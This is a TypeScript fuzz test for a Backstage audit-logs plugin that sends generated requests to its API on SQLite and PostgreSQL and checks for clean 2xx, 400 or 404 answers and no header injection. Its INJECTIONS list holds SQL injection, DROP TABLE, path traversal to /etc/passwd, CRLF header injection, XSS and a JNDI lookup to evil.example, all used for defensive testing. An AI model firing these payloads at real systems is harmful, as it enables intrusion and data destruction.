// Hostile input: 1,000 generated requests against the plugin's routes (per database engine)
// through a real Backstage test backend. Every answer must be a 2xx, a 400 whose message names a
// parameter that was sent, or a 404 for a well-formed id that does not exist — never a 500 — and
// no request may be slow. fast-check prints the seed of a failure; AUDIT_LOGS_FUZZ_SEED replays it.
import { mockServices, startTestBackend } from '@backstage/backend-test-utils';
import type { Entity } from '@backstage/catalog-model';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import fc from 'fast-check';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createPostgresDatabase,
  createSqliteDatabase,
  postgresUrl,
  type TestDatabase,
} from '../__testing__/databases.js';
import { fakeCheckpoint, fakeEvent } from '../__testing__/events.js';
import { auditLogsPlugin } from '../plugin.js';
import { AuditLogStore } from '../store/audit-log-store.js';
import { encodeCursor } from '../store/cursor.js';

const API = '/api/audit-logs';
const RUNS = Number(process.env.AUDIT_LOGS_FUZZ_RUNS ?? 1000);
const SEED = process.env.AUDIT_LOGS_FUZZ_SEED
  ? Number(process.env.AUDIT_LOGS_FUZZ_SEED)
  : undefined;
/** Generous: a request slower than this on a loaded 2-core machine is a slow query. */
const SLOW_MS = 5_000;
const STORED = 600;

/** A User and a Group for the user/group filters. */
const ENTITIES: Entity[] = [
  {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'User',
    metadata: { name: 'jane.doe', namespace: 'default' },
    spec: { profile: { email: 'user1@example.com' } },
    relations: [{ type: 'memberOf', targetRef: 'group:default/team-a' }],
  },
  {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Group',
    metadata: { name: 'team-a', namespace: 'default' },
    spec: { type: 'team', children: [] },
  },
];

const pgUrl = postgresUrl();
const engines: [string, () => Promise<TestDatabase>][] = [
  ['SQLite', () => Promise.resolve(createSqliteDatabase())],
];
if (pgUrl) engines.push(['PostgreSQL', () => createPostgresDatabase(pgUrl)]);

/** Percent-encodes every byte of the UTF-8 form (lone surrogates become U+FFFD). */
function encode(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

const INJECTIONS = [
  "' OR 1=1 --",
  "'; DROP TABLE audit_logs__events; --",
  '" OR ""="',
  '1; select pg_sleep(10)',
  "' || (select sqlite_version()) || '",
  '%',
  '_',
  '\\',
  '%_\\%',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '/etc/passwd\u0000.png',
  '\u0000',
  'a\u0000b',
  '\r\nSet-Cookie: injected=1',
  '\r\n\r\n<html>',
  'x\nLocation: https://evil.example',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '[object Object]',
  'null',
  'undefined',
  'NaN',
  '-Infinity',
];

const UNICODE = [
  'é',
  'ß',
  'İ',
  '日本語',
  '🦄',
  '👩‍👩‍👧',
  '\u202Eevil',
  '\uFEFF',
  '\uD800',
  '\uDFFF',
  'Ａ',
  '\u0301',
];

const NUMBERS = [
  '0',
  '-1',
  '1',
  '50',
  '500',
  '501',
  '1e3',
  '0x10',
  '1.5',
  ' 5',
  '5 ',
  '+5',
  '00000000000000000000001',
  '9007199254740993',
  '99999999999999999999999999',
  'Infinity',
  '١٢',
];

const INSTANTS = [
  '2026-10-01',
  '2026-10-01T00:00:00Z',
  '2026-10-01T00:00:00.123456789+02:00',
  '2026-02-31',
  '2026-13-01',
  '2026-10-01T24:00Z',
  '2026-10-01T99:99:99Z',
  '0000-01-01',
  '9999-12-31T23:59:59.999Z',
  '+275760-09-13T00:00:00Z',
  '2026-10-01T00:00:00',
  'yesterday',
  '1700000000000',
  '2026-10-01T00:00:00Z\u0000',
];

/** Cursors: real ones, decodable wrong shapes, and noise. */
function cursors(valid: string[]): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(...valid),
    fc.constantFrom(
      b64(['2026-10-01T00:00:00.000Z', 0]),
      b64(['2026-10-01T00:00:00.000Z', -5]),
      b64(['2026-10-01T00:00:00.000Z', 2 ** 53]),
      b64(['2026-10-01T00:00:00.000Z', 1.5]),
      b64(['2026-10-01T00:00:00.000Z', '7']),
      b64(['not a date', 7]),
      b64(["' OR 1=1 --", 7]),
      b64(['2026-10-01T00:00:00.000Z', 7, 8]),
      b64({ occurredAt: '2026-10-01T00:00:00.000Z', id: 7 }),
      b64(null),
      b64('x'.repeat(10_000)),
      'bm9wZQ',
      '====',
      '',
    ),
    fc.string({ maxLength: 200 }),
    fc.base64String({ maxLength: 400 }),
    fc
      .tuple(fc.string({ maxLength: 40 }), fc.oneof(fc.integer(), fc.double(), fc.string()))
      .map(b64),
    fc.constantFrom(...valid).map((cursor) => `${cursor}A`),
  );
}

function values(validCursors: string[]): fc.Arbitrary<string> {
  return fc.oneof(
    fc.constantFrom(...INJECTIONS),
    fc.constantFrom(...UNICODE),
    fc.constantFrom(...NUMBERS),
    fc.constantFrom(...INSTANTS),
    fc.constantFrom('kore', 'seeded', 'kore,seeded', ' kore , seeded ', 'a,'.repeat(60), ','),
    fc.constantFrom('ndjson', 'csv', 'ocsf', 'ecs', 'xml', 'NDJSON', '../csv'),
    fc.constantFrom('USER_LOGIN', 'Bots', 'u1', 'number 7', 'user1@example.com'),
    fc.constantFrom('success', 'failure', 'unknown', 'SUCCESS'),
    fc.constantFrom(
      'user:default/jane.doe',
      'group:default/team-a',
      'jane.doe',
      'user:default/nobody',
      'component:default/x',
      'user:',
      ':/',
    ),
    fc.constantFrom('hour', 'day', 'week', 'category', 'source', 'outcome', 'actor', 'action'),
    cursors(validCursors),
    fc.string({ unit: 'grapheme', maxLength: 60 }),
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc
      .oneof(fc.integer({ min: 490, max: 510 }), fc.integer({ min: 1, max: 20_000 }))
      .map((n) => 'x'.repeat(n)),
    fc.constant(''),
  );
}

const KNOWN = [
  'source',
  'from',
  'to',
  'actor',
  'action',
  'category',
  'outcome',
  'user',
  'group',
  'q',
  'limit',
  'cursor',
  'interval',
  'groupBy',
  'field',
];
const NAMES = [
  ...KNOWN,
  'format',
  'host',
  'page',
  'offset',
  'LIMIT',
  'limit ',
  'sört',
  "q' OR '1",
  '__proto__',
  'constructor',
  'hasOwnProperty',
];

interface Param {
  name: string;
  /** How the name is written: plain, `name[]`, or `name[key]` (an object for qs). */
  shape: 'plain' | 'array' | 'object';
  value: string;
  /** Send the value as is, without percent-encoding (malformed escapes). */
  raw: boolean;
}

function params(validCursors: string[]): fc.Arbitrary<Param[]> {
  const one: fc.Arbitrary<Param> = fc.record({
    name: fc.oneof(
      { weight: 6, arbitrary: fc.constantFrom(...NAMES) },
      // Brackets and quotes left out: qs gives them a meaning of its own (see `shape`).
      fc.string({ minLength: 1, maxLength: 8 }).filter((name) => !/["[\]]/.test(name)),
    ),
    shape: fc.constantFrom<Param['shape']>('plain', 'plain', 'plain', 'plain', 'array', 'object'),
    value: values(validCursors),
    raw: fc.integer({ min: 0, max: 9 }).map((n) => n === 0),
  });
  return fc.oneof(
    fc.array(one, { maxLength: 6 }),
    // Repeated parameters: the same name two or more times.
    fc
      .tuple(one, fc.array(values(validCursors), { minLength: 1, maxLength: 3 }))
      .map(([first, more]) => [first, ...more.map((value) => ({ ...first, value }))]),
  );
}

function queryString(list: Param[]): string {
  return list
    .map(({ name, shape, value, raw }) => {
      const key =
        shape === 'array'
          ? `${encode(name)}[]`
          : shape === 'object'
            ? `${encode(name)}[k]`
            : encode(name);
      const text = raw ? value.replace(/[\s#&?]/g, (c) => encode(c)) : encode(value);
      return `${key}=${text}`;
    })
    .join('&');
}

type Route = 'list' | 'export' | 'byId' | 'sources' | 'sync' | 'stats' | 'facets';

const routes: fc.Arbitrary<{ route: Route; id: string }> = fc.record({
  route: fc.constantFrom<Route>(
    'list',
    'list',
    'list',
    'export',
    'byId',
    'sources',
    'sync',
    'stats',
    'stats',
    'facets',
    'facets',
  ),
  id: fc.oneof(
    fc.constantFrom('1', '42', '600', '601', '0', '-1', '1.0', '9007199254740993', 'export', 'abc'),
    fc.constantFrom(...INJECTIONS),
    fc.constantFrom(...UNICODE),
    fc.string({ minLength: 1, maxLength: 30 }),
  ),
});

describe.each(engines)('fuzzed API requests on %s', (engine, create) => {
  let db: TestDatabase;
  let server: Awaited<ReturnType<typeof startTestBackend>>['server'];
  const validCursors: string[] = [];

  beforeAll(async () => {
    db = await create();
    ({ server } = await startTestBackend({
      features: [
        auditLogsPlugin,
        mockServices.database.factory({ knex: db.knex }),
        catalogServiceMock.factory({ entities: ENTITIES }),
        mockServices.rootConfig.factory({
          data: {
            auditLogs: {
              schedule: { frequency: { trigger: 'manual' }, timeout: { minutes: 1 } },
              sources: [
                {
                  id: 'kore',
                  type: 'kore-ai-for-work',
                  // Nothing listens there: a triggered sync fails fast and stays out of the way.
                  baseUrl: 'http://127.0.0.1:9',
                  credentials: { apiKey: 'fuzz-key-0123456789' },
                  options: { maxAttempts: 1 },
                },
              ],
            },
          },
        }),
      ],
    }));
    const store = new AuditLogStore(db.knex);
    const events = Array.from({ length: STORED }, (_, i) => fakeEvent(i + 1));
    for (let i = 0; i < events.length; i += 300)
      await store.storeBatch('kore', 'kore-ai-for-work', events.slice(i, i + 300), {
        ...fakeCheckpoint('kore'),
      });
    validCursors.push(encodeCursor({ occurredAt: '2026-10-01T05:00:00.000Z', id: 300 }));
    const page = await request(server).get(`${API}/events?limit=7`);
    expect(page.status).toBe(200);
    validCursors.push(page.body.nextCursor as string);
  });
  afterAll(() => db?.destroy());

  it(`answers ${RUNS} generated requests with 2xx or a 400 naming the parameter, never 500`, async () => {
    const durations: number[] = [];
    const statuses = new Map<number, number>();
    const started = Date.now();
    await fc.assert(
      fc.asyncProperty(routes, params(validCursors), async ({ route, id }, list) => {
        const query = queryString(list);
        const sent = new Set(list.map((p) => p.name));
        let path: string;
        let method: 'get' | 'post' = 'get';
        if (route === 'list') path = '/events';
        else if (route === 'export') path = '/events/export';
        else if (route === 'sources') path = '/sources';
        else if (route === 'stats') path = '/stats';
        else if (route === 'facets') path = '/facets';
        else if (route === 'byId') path = `/events/${encode(id)}`;
        else {
          path = `/sources/${encode(id === 'kore' ? 'kore2' : id)}/sync`;
          method = 'post';
        }
        const url = `${API}${path}${query ? `?${query}` : ''}`;
        const t0 = performance.now();
        const agent = request(server);
        const res = await (method === 'get' ? agent.get(url) : agent.post(url))
          .buffer(true)
          .ok(() => true);
        const ms = performance.now() - t0;
        durations.push(ms);
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        const context = `${method.toUpperCase()} ${url.slice(0, 400)} → ${res.status} ${res.text.slice(0, 300)}`;
        expect(ms, `slow: ${context}`).toBeLessThan(SLOW_MS);
        expect(res.status, context).not.toBeGreaterThanOrEqual(500);
        // Header injection: nothing the caller sent becomes a header.
        expect(res.headers['set-cookie'], context).toBeUndefined();
        expect(res.headers.location, context).toBeUndefined();
        if (res.status >= 200 && res.status < 300) return;
        // Node's HTTP server refuses a request line over its 16 KiB header limit.
        if (res.status === 431) {
          expect(url.length, context).toBeGreaterThan(16_000);
          return;
        }
        if (res.status === 404) {
          // Only a well-formed id that names nothing: an event id or a source to sync.
          expect(route === 'byId' || route === 'sync', context).toBe(true);
          expect(res.body.error?.name, context).toBe('NotFoundError');
          return;
        }
        expect(res.status, context).toBe(400);
        expect(res.body.error?.name, context).toBe('InputError');
        const message = String(res.body.error?.message);
        const named = /(?:query|path) parameter "([^"]*)"/.exec(message)?.[1];
        expect(named, context).toBeDefined();
        if (named === 'id') expect(route, context).toBe('byId');
        else expect(sent.has(named!), context).toBe(true);
      }),
      {
        numRuns: RUNS,
        ...(SEED !== undefined ? { seed: SEED } : {}),
        // NUL bytes reach SQL as text on every filter (PostgreSQL refuses them in strings).
        examples: [
          'q',
          'actor',
          'action',
          'category',
          'source',
          'cursor',
          'from',
          'user',
          'group',
          'outcome',
        ].map((name): [{ route: Route; id: string }, Param[]] => [
          { route: 'list', id: '1' },
          [{ name, shape: 'plain', value: 'a\u0000b', raw: false }],
        ]),
      },
    );
    durations.sort((a, b) => a - b);
    const max = durations.at(-1)!;
    const p99 = durations[Math.floor(durations.length * 0.99)]!;
    console.log(
      `API fuzzing on ${engine}: ${durations.length} requests in ${Date.now() - started} ms, ` +
        `max ${max.toFixed(0)} ms, p99 ${p99.toFixed(0)} ms, statuses ${JSON.stringify(Object.fromEntries(statuses))}`,
    );
    // Both outcomes must actually be exercised.
    expect(statuses.get(200)).toBeGreaterThan(RUNS / 20);
    expect(statuses.get(400)).toBeGreaterThan(RUNS / 5);
  });
});
